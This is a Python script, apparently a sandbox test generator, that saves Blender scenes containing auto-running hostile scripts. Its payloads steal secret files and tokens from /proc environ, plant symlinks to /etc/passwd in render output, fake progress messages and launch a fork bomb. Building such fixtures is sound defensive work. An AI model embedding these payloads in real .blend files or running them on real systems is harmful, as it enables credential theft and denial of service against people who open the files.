"""Run by Blender: save a scene with a hostile script. Arguments: scene, attack, secret, runner, port, out."""

import os
import sys

import bpy

SHARED = """
import bpy, json, os, socket, sys
def attempt(name, call):
    try:
        print("LOOT", json.dumps([name, repr(call())[:500]]), flush=True)
    except BaseException as error:
        print("LOOT", json.dumps([name, None, type(error).__name__]), flush=True)
def every(root, most=200000):
    seen = 0
    for folder, folders, files in os.walk(root, followlinks=False):
        for name in files:
            seen += 1
            if seen > most:
                return
            yield os.path.join(folder, name)
"""

ATTACKS = {
    "thief": """
attempt("secret", lambda: open(bpy.context.scene["secret"]).read())
attempt("neighbour", lambda: [p for p in every("/") if os.path.basename(p) == "monkey.blend"][0])
attempt("token", lambda: open(bpy.context.scene["runner"] + "/runner.json").read())
attempt("environment", lambda: [e for p in os.listdir("/proc") if p.isdigit()
    for e in [open(f"/proc/{p}/environ").read()] if "FRAMEFARM" in e][0])
attempt("farm", lambda: socket.create_connection(("127.0.0.1", bpy.context.scene["port"]), 3))
attempt("name", lambda: socket.getaddrinfo("example.com", 80)[0])
attempt("write", lambda: open("/usr/bin/planted", "w").write("x"))
attempt("root", lambda: os.setuid(0))
attempt("done", lambda: "all attacks were made")
""",
    "planter": """
@bpy.app.handlers.persistent
def plant(scene, *_):
    folder = os.path.dirname(bpy.path.abspath(scene.render.filepath)) or "."
    os.symlink("/etc/passwd", folder + "/taken.png")
    os.symlink(scene["secret"], folder + "/secret.png")
    for name in (b"new\\nline.png", b"\\xff\\xfe.png", b"..\\\\up.png", b"a" * 250 + b".png"):
        open(os.path.join(os.fsencode(folder), name), "wb").write(b"x")
    os.mkfifo(folder + "/pipe.png")
bpy.app.handlers.render_write.append(plant)
bpy.app.handlers.render_post.append(plant)
""",
    "liar": """
@bpy.app.handlers.persistent
def lie(*_):
    lines = b"".join(json.dumps({"is": "saved", "frame": n}).encode() + b"\\n" for n in range(1, 50))
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, lines)
        except OSError:
            pass
bpy.app.handlers.render_pre.append(lie)
""",
    "bomb": """
import time
def fork():
    ended = time.monotonic() + 8
    while time.monotonic() < ended:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)
fork()
""",
}
path, attack, secret, runner, port, out = sys.argv[-6:]
bpy.ops.wm.open_mainfile(filepath=path)
text = bpy.data.texts.new("evil.py")
text.write(SHARED + ATTACKS[attack])
text.use_module = True
scene = bpy.context.scene
scene["secret"], scene["runner"], scene["port"] = secret, runner, int(port)
bpy.ops.wm.save_as_mainfile(filepath=out)
os._exit(0)
